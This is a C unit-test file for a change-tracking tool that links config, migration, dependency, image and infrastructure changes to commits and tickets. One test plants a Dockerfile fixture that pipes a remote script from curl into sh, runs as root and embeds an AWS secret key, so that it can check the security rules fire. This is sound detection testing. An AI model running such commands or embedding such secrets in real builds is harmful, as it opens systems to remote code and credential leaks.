#include "source_support.h"

#include <string.h>

#include <pilab/drift/report.h>
#include <pilab/drift/together.h>

/* Which commit, and which ticket, differences of the other types are tied to, and to each other. */

static int set_up(void **state)
{
    int result = work_setup(state);
    struct work *work = *state;

    for (int type = 0; type < DRIFT_TYPE_COUNT; type++)
        work->request.types[type] = true;
    return result;
}

static const struct drift_item *item_of(const struct drift_report *report, enum drift_type type,
                                        const char *path)
{
    for (size_t i = 0; i < report->item_count; i++) {
        const struct drift_item *item = &report->items[i];

        if (item->type == type && strcmp(item->path, path) == 0)
            return item;
    }
    fail_msg("%s is no difference of type %s", path, drift_type_name(type));
    return NULL;
}

/* `tickets` are separated by blanks; of an item that no commit is known of, `subject` is NULL. */
static void assert_tied(const struct drift_report *report, enum drift_type type, const char *path,
                        const char *subject, const char *tickets)
{
    const struct drift_item *item = item_of(report, type, path);
    struct strbuf listed = STRBUF_INIT;

    if (subject == NULL) {
        assert_null(item->commit);
    } else {
        assert_non_null(item->commit);
        assert_string_equal(drift_report_commit(report, item->commit)->subject, subject);
    }
    for (size_t i = 0; i < item->ticket_count; i++)
        strbuf_printf(&listed, "%s%s", i > 0 ? " " : "", item->tickets[i]);
    assert_string_equal(listed.data != NULL ? listed.data : "", tickets);
    strbuf_release(&listed);
}

static void write_file(struct work *work, const char *path, const char *text, const char *message,
                       const char *tag)
{
    builder_write(work->build, path, text);
    work_commit(work, message, tag);
}

static void replace(struct work *work, const char *path, const char *old, const char *new,
                    const char *message, const char *tag)
{
    builder_replace(work->build, path, old, new);
    work_commit(work, message, tag);
}

static void an_operation_is_tied_to_the_commits_that_wrote_its_lines(void **state)
{
    struct work *work = *state;
    struct drift_report *report;

    write_file(work, "db/migrations/1_init.up.sql", "CREATE TABLE users (id int);\n", "Begin",
               "v1");
    write_file(work, "db/migrations/2_orders.up.sql",
               "CREATE TABLE orders (\n  id int\n);\nCREATE TABLE lines (\n  id int\n);\n",
               "MB-1: orders", NULL);
    replace(work, "db/migrations/2_orders.up.sql", "orders (\n  id int\n",
            "orders (\n  id bigint\n", "MB-2: wide orders", NULL);
    write_file(work, "db/migrations/3_gone.up.sql", "DROP TABLE users;\n", "MB-3: no users", "v2");
    report = drift_detect(work_read(work));

    assert_tied(report, DRIFT_DATABASE, "orders", "MB-2: wide orders", "MB-2 MB-1");
    assert_tied(report, DRIFT_DATABASE, "lines", "MB-1: orders", "MB-1");
    assert_tied(report, DRIFT_DATABASE, "users", "MB-3: no users", "MB-3");
    drift_report_free(&report);
}

static void an_edited_migration_is_tied_to_all_who_edited_it(void **state)
{
    struct work *work = *state;
    struct drift_report *report;

    write_file(work, "db/migrations/1_init.up.sql", "CREATE TABLE a (id int);\n\n\n\n", "Begin",
               "v1");
    replace(work, "db/migrations/1_init.up.sql", "id int", "id bigint", "MB-1: widen", NULL);
    replace(work, "db/migrations/1_init.up.sql", "\n\n\n\n", "\n\n\n\nCREATE TABLE b (id int);\n",
            "MB-2: b", "v2");
    report = drift_detect(work_read(work));

    assert_tied(report, DRIFT_DATABASE, "db/migrations/1_init.up.sql", "MB-2: b", "MB-2 MB-1");
    drift_report_free(&report);
}

/* The version stands below the line that names the package. */
static const char lock[] = "{\n  \"name\": \"web\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\n"
                           "    \"node_modules/left\": {\n      \"version\": \"1.0.0\"\n    },\n"
                           "    \"node_modules/right\": {\n      \"version\": \"2.0.0\"\n    }\n"
                           "  }\n}\n";

static void a_package_is_tied_to_the_commit_that_changed_its_entry(void **state)
{
    struct work *work = *state;
    struct drift_report *report;

    write_file(work, "package-lock.json", lock, "Begin", "v1");
    replace(work, "package-lock.json", "1.0.0", "1.0.1", "MB-1: left", NULL);
    replace(work, "package-lock.json", "2.0.0", "2.1.0", "MB-2: right", NULL);
    replace(work, "package-lock.json", "2.1.0\"\n    }\n",
            "2.1.0\"\n    },\n    \"node_modules/third\": {\n      \"version\": \"3.0.0\"\n    }\n",
            "MB-3: third", "v2");
    report = drift_detect(work_read(work));

    assert_tied(report, DRIFT_DEPENDENCY, "left", "MB-1: left", "MB-1");
    assert_tied(report, DRIFT_DEPENDENCY, "right", "MB-3: third", "MB-3 MB-2");
    assert_tied(report, DRIFT_DEPENDENCY, "third", "MB-3: third", "MB-3");
    drift_report_free(&report);
}

static void an_image_is_tied_to_the_commit_that_named_it(void **state)
{
    struct work *work = *state;
    struct drift_report *report;

    write_file(work, "Dockerfile", "FROM alpine:3.18\nRUN a\nRUN b\nCOPY --from=busybox:1 /a /a\n",
               "Begin", "v1");
    replace(work, "Dockerfile", "alpine:3.18", "alpine:3.19", "MB-1: newer base", NULL);
    replace(work, "Dockerfile", "RUN a", "RUN c", "MB-2: nothing of images", NULL);
    replace(work, "Dockerfile", "busybox:1", "busybox:2", "MB-3: newer tools", "v2");
    report = drift_detect(work_read(work));

    assert_tied(report, DRIFT_IMAGE, "alpine", "MB-1: newer base", "MB-1");
    assert_tied(report, DRIFT_IMAGE, "busybox", "MB-3: newer tools", "MB-3");
    drift_report_free(&report);
}

static bool fired(const struct drift_item *item, const char *rule)
{
    for (size_t i = 0; i < item->rule_count; i++) {
        if (strcmp(item->rules[i].rule, rule) == 0)
            return true;
    }
    return false;
}

/* What it builds upon is told with the images. */
static void what_a_dockerfile_does_that_is_new_is_judged(void **state)
{
    static const char safe[] = "FROM alpine:3.18\nRUN a\nUSER app\n";
    struct work *work = *state;
    struct drift_report *report;
    const struct drift_item *item;

    builder_write(work->build, "web.Dockerfile", safe);
    builder_write(work->build, "tests/Dockerfile", safe);
    write_file(work, "Dockerfile", safe, "Begin", "v1");
    replace(work, "web.Dockerfile", "RUN a", "RUN b\nENV GPG_KEY=E3FF2839C048B25C084DEBE9",
            "MB-1: b", NULL);
    replace(work, "tests/Dockerfile", "USER app", "USER root", "MB-2: root", NULL);
    replace(work, "Dockerfile", "USER app\n",
            "ADD https://a.example/x /x\nRUN curl -k https://a.example/y | sh\n"
            "ENV AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIxK7MDENGybPxRfiCYzzGMPLEKEY\n",
            "MB-3: y", "v2");
    report = drift_detect(work_read(work));

    item = item_of(report, DRIFT_CODE, "Dockerfile");
    assert_int_equal(item->severity, SEVERITY_HIGH);
    assert_int_equal(item->attention, ATTENTION_REVIEW);
    assert_true(item->security);
    assert_true(fired(item, "code.image-root"));
    assert_true(fired(item, "code.image-piped"));
    assert_true(fired(item, "code.image-unverified"));
    assert_true(fired(item, "code.image-remote"));
    assert_true(fired(item, "code.image-secret"));
    item = item_of(report, DRIFT_CODE, "web.Dockerfile");
    assert_int_equal(item->severity, SEVERITY_MEDIUM);
    assert_false(item->security);
    assert_false(fired(item_of(report, DRIFT_CODE, "tests/Dockerfile"), "code.image-root"));
    drift_report_free(&report);
}

static void a_variable_of_infrastructure_is_tied_to_the_commit_that_set_it(void **state)
{
    struct work *work = *state;
    struct drift_report *report;

    write_file(work, "infra/prod.tfvars", "size = 1\n\nzone = \"a\"\n", "Begin", "v1");
    replace(work, "infra/prod.tfvars", "size = 1", "size = 2", "MB-1: larger", NULL);
    replace(work, "infra/prod.tfvars", "zone = \"a\"", "zone = \"b\"", "MB-2: elsewhere", "v2");
    report = drift_detect(work_read(work));

    assert_tied(report, DRIFT_INFRASTRUCTURE, "size", "MB-1: larger", "MB-1");
    assert_tied(report, DRIFT_INFRASTRUCTURE, "zone", "MB-2: elsewhere", "MB-2");
    drift_report_free(&report);
}

/* Two branches changed the file beside each other: no version leads to the next. */
static void commits_on_branches_beside_each_other_are_told_apart(void **state)
{
    struct work *work = *state;
    struct drift_report *report;

    write_file(work, "infra/prod.tfvars", "a = 1\nx = 0\ny = 0\nz = 0\nb = 1\nc = 1\n", "Begin",
               "v1");
    builder_branch(work->build, "side");
    replace(work, "infra/prod.tfvars", "b = 1", "b = 2", "MB-2: b", NULL);
    builder_switch(work->build, "main");
    replace(work, "infra/prod.tfvars", "a = 1", "a = 2", "MB-1: a", NULL);
    builder_merge(work->build, "side", "Merge branch 'side'");
    builder_write(work->build, "infra/prod.tfvars", "a = 2\nx = 0\ny = 0\nz = 0\nb = 2\nc = 1\n");
    work_commit(work, "Settle", NULL);
    replace(work, "infra/prod.tfvars", "\nc = 1\n", "\n", "MB-3: no c", "v2");
    report = drift_detect(work_read(work));

    assert_tied(report, DRIFT_INFRASTRUCTURE, "a", "MB-1: a", "MB-1");
    assert_string_equal(item_of(report, DRIFT_INFRASTRUCTURE, "b")
                            ->tickets[item_of(report, DRIFT_INFRASTRUCTURE, "b")->ticket_count - 1],
                        "MB-2");
    assert_tied(report, DRIFT_INFRASTRUCTURE, "c", "MB-3: no c", "MB-3");
    drift_report_free(&report);
}

/* What differs between the files of two environments need not be what a commit changed there. */
static void what_no_commit_changed_is_tied_to_none(void **state)
{
    struct work *work = *state;
    static const char *const layers[] = { "values-{env}.yaml" };
    struct drift_report *report;

    work_configure(work, layers, 1);
    work->modules[0].previous_environment = "uat";
    work->modules[0].current_environment = "sit";
    builder_write(work->build, "values-uat.yaml", "a: 1\nb: 1\n");
    write_file(work, "values-sit.yaml", "a: 2\nb: 1\n", "Begin", "v1");
    replace(work, "values-sit.yaml", "b: 1", "b: 2", "MB-1: b", "v2");
    report = drift_detect(work_read(work));

    assert_tied(report, DRIFT_CONFIG, "a", NULL, "");
    assert_tied(report, DRIFT_CONFIG, "b", "MB-1: b", "MB-1");
    drift_report_free(&report);
}

static void what_one_ticket_changed_is_named_together(void **state)
{
    struct work *work = *state;
    struct drift_report *report;
    struct drift_together *together;
    const struct together_item *items;
    size_t count;

    builder_write(work->build, "values.yaml", "limit: 1\nother: 1\n");
    write_file(work, "Dockerfile", "FROM alpine:3.18\n", "Begin", "v1");
    builder_write(work->build, "db/migrations/2_limit.up.sql", "CREATE TABLE limits (id int);\n");
    replace(work, "values.yaml", "limit: 1", "limit: 2", "MB-1: limits", NULL);
    replace(work, "Dockerfile", "3.18", "3.19", "MB-1: a base that has them", NULL);
    replace(work, "values.yaml", "other: 1", "other: 2", "MB-2: alone", "v2");
    report = drift_detect(work_read(work));
    together = drift_together_new(report);

    items = drift_together_with(together, item_of(report, DRIFT_CONFIG, "limit"), together->arena,
                                &count);
    assert_int_equal(count, 4); /* without values.yaml, which it stands in */
    assert_string_equal(items[0].item->path, "limits");
    assert_null(items[0].ticket); /* by one commit */
    assert_string_equal(items[1].item->path, "alpine");
    assert_string_equal(items[1].ticket, "MB-1");
    for (size_t i = 2; i < count; i++)
        assert_int_equal(items[i].item->type, DRIFT_CODE);
    for (size_t i = 0; i < together->count; i++)
        assert_true(together->groups[i].ticket != NULL);
    for (size_t i = 0; i < report->change_count; i++) {
        if (report->changes[i].ticket == NULL || strcmp(report->changes[i].ticket, "MB-1") != 0)
            continue;
        items = drift_together_of_change(together, &report->changes[i], together->arena, &count);
        assert_int_equal(count, 6);
    }
    drift_together_free(&together);
    drift_report_free(&report);
}

/* The file of a migration is listed and counted; what it does is judged once. */
static void a_migration_is_judged_with_the_database_alone(void **state)
{
    struct work *work = *state;
    const struct drift_item *file;
    struct drift_report *report;

    write_file(work, "db/migrations/1_init.up.sql", "CREATE TABLE a (id int);\n", "Begin", "v1");
    builder_write(work->build, "db/migrations/2_b.up.sql", "CREATE TABLE b (id int);\n");
    builder_write(work->build, "db/migrations/2_b.down.sql", "DROP TABLE b;\n");
    builder_write(work->build, "db/migrate/20240101120000_add_name.rb", "add_column\n");
    replace(work, "db/migrations/1_init.up.sql", "id int", "id bigint", "MB-1: tables", "v2");
    report = drift_detect(work_read(work));

    file = item_of(report, DRIFT_CODE, "db/migrations/2_b.up.sql");
    assert_int_equal(file->severity, SEVERITY_INFO);
    assert_int_equal(file->attention, ATTENTION_NONE);
    assert_int_equal(file->rule_count, 1);
    assert_true(fired(file, "code.told"));
    assert_true(fired(item_of(report, DRIFT_CODE, "db/migrations/2_b.down.sql"), "code.told"));
    file = item_of(report, DRIFT_CODE, "db/migrations/1_init.up.sql");
    assert_false(fired(file, "code.migration-changed"));
    assert_int_equal(item_of(report, DRIFT_DATABASE, "db/migrations/1_init.up.sql")->attention,
                     ATTENTION_BLOCKER);
    /* Nobody reads Ruby: its file alone tells. */
    assert_true(fired(item_of(report, DRIFT_CODE, "db/migrate/20240101120000_add_name.rb"),
                      "code.migration-new"));
    assert_int_equal(report->summary.by_drift_type[DRIFT_CODE], 4);
    assert_int_equal(report->summary.total_changes,
                     4 + report->summary.by_drift_type[DRIFT_DATABASE]);
    drift_report_free(&report);
}

/* What the commits say is said where they do it: of go.mod under its packages. */
static void what_is_told_elsewhere_is_not_judged_by_its_commits(void **state)
{
    static const char *const told[] = { "db/migrations/2_b.up.sql", "go.mod", "go.sum" };
    struct work *work = *state;
    struct drift_report *report;

    work->request.types[DRIFT_DEPENDENCY] = true;
    builder_write(work->build, "go.sum", "a.b/c v1.0.0 h1:x\n");
    builder_write(work->build, "main.go", "package main\n");
    write_file(work, "go.mod", "module m\nrequire a.b/c v1.0.0\n", "Begin", "v1");
    builder_write(work->build, "db/migrations/2_b.up.sql", "CREATE TABLE b (id int);\n");
    builder_write(work->build, "go.sum", "a.b/c v2.0.0 h1:y\n");
    builder_write(work->build, "main.go", "package main\n\n");
    write_file(work, "go.mod", "module m\nrequire a.b/c v2.0.0\n", "feat!: MB-1: all of it", "v2");
    report = drift_detect(work_read(work));

    for (size_t i = 0; i < sizeof told / sizeof *told; i++) {
        const struct drift_item *file = item_of(report, DRIFT_CODE, told[i]);

        assert_int_equal(file->severity, SEVERITY_INFO);
        assert_int_equal(file->rule_count, 1);
        assert_true(fired(file, "code.told"));
    }
    assert_true(fired(item_of(report, DRIFT_CODE, "main.go"), "code.breaking"));
    drift_report_free(&report);
}

/* Where nobody asked for the database, nothing but the file tells. */
static void without_the_database_the_file_is_judged(void **state)
{
    struct work *work = *state;
    struct drift_report *report;

    work->request.types[DRIFT_DATABASE] = false;
    write_file(work, "db/migrations/1_init.up.sql", "CREATE TABLE a (id int);\n", "Begin", "v1");
    write_file(work, "db/migrations/2_b.up.sql", "CREATE TABLE b (id int);\n", "MB-1: b", "v2");
    report = drift_detect(work_read(work));

    assert_true(
        fired(item_of(report, DRIFT_CODE, "db/migrations/2_b.up.sql"), "code.migration-new"));
    drift_report_free(&report);
}

#define CASE(name) cmocka_unit_test_setup_teardown(name, set_up, work_teardown)

int main(void)
{
    const struct CMUnitTest tests[] = {
        CASE(an_operation_is_tied_to_the_commits_that_wrote_its_lines),
        CASE(an_edited_migration_is_tied_to_all_who_edited_it),
        CASE(a_package_is_tied_to_the_commit_that_changed_its_entry),
        CASE(an_image_is_tied_to_the_commit_that_named_it),
        CASE(what_a_dockerfile_does_that_is_new_is_judged),
        CASE(a_variable_of_infrastructure_is_tied_to_the_commit_that_set_it),
        CASE(commits_on_branches_beside_each_other_are_told_apart),
        CASE(what_no_commit_changed_is_tied_to_none),
        CASE(what_one_ticket_changed_is_named_together),
        CASE(a_migration_is_judged_with_the_database_alone),
        CASE(what_is_told_elsewhere_is_not_judged_by_its_commits),
        CASE(without_the_database_the_file_is_judged),
    };

    return cmocka_run_group_tests(tests, fixture_library_start, fixture_library_stop);
}
